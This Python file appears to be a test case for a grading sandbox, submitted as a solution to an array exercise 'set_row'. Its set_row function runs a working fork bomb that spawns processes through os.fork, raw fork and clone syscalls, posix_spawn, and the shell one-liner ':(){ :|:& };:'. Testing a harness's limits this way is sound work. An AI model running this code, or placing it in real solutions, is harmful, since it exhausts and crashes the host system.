"""Forks without end, in every way that Linux knows (R01).

Exercise: 01_arrays/set_row
Outcome: failed | raised | crashed
"""

import ctypes
import os
import subprocess
import sys

libc = ctypes.CDLL(None)
FORK, VFORK, CLONE, CLONE3 = 57, 58, 56, 435


def breed():
    for attempt in (
        os.fork,
        lambda: libc.syscall(FORK),
        lambda: libc.syscall(CLONE, 17, 0, 0, 0, 0),
        lambda: os.posix_spawn(sys.executable, [sys.executable, "-c", "while 1: pass"], {}),
        lambda: subprocess.Popen(["sh", "-c", ":(){ :|:& };:"]),
    ):
        try:
            if attempt() == 0:
                breed()
        except OSError:
            continue


def set_row(x, i, row):
    for _ in range(1000):
        breed()
    return x
